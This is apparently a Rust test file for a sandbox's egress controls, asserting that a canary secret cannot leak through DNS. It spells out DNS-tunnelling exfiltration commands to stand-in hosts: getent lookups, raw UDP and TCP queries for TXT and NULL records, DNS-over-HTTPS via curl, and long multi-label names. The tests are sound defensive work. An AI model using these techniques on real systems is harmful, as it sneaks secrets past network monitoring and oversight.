//! Secrets in the labels of names that are looked up.

use crate::ground::{Ground, python};

#[test]
fn through_the_systems_resolver() {
    Ground::new().nothing_gets_out("getent ahosts {canary}.tunnel.example.test");
}

#[test]
fn over_udp_to_a_resolver_of_its_own() {
    Ground::new().nothing_gets_out(&query("SOCK_DGRAM", 1));
}

#[test]
fn as_txt() {
    Ground::new().nothing_gets_out(&query("SOCK_DGRAM", 16));
}

#[test]
fn as_null() {
    Ground::new().nothing_gets_out(&query("SOCK_DGRAM", 10));
}

#[test]
fn over_tcp() {
    Ground::new().nothing_gets_out(&query("SOCK_STREAM", 1));
}

#[test]
fn over_https() {
    Ground::new().nothing_gets_out(
        "curl -ksS -m 10 -H 'accept: application/dns-json' 'https://dns.example.test/dns-query?name={canary}.tunnel.test'",
    );
}

#[test]
fn as_sixty_labels() {
    Ground::new().nothing_gets_out(
        "for n in $(seq 20); do getent ahosts $n.a.b.c.d.e.f.{canary}.tunnel.example.test; done",
    );
}

fn query(kind: &str, record: u8) -> String {
    python(&format!(
        "
import socket
name = b''.join(bytes([len(l)]) + l for l in (b'{{canary}}', b'tunnel', b'example', b'test')) + b'\\0'
query = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\x{record:02x}\\0\\1'
s = socket.socket(socket.AF_INET, socket.{kind})
s.settimeout(3)
s.connect(('203.0.113.10', 53))
s.send(query if '{kind}' == 'SOCK_DGRAM' else len(query).to_bytes(2, 'big') + query)
try:
    if '{kind}' == 'SOCK_STREAM':
        s.shutdown(socket.SHUT_WR)
    print(s.recv(1000))
except OSError as error:
    print(error)
"
    ))
}
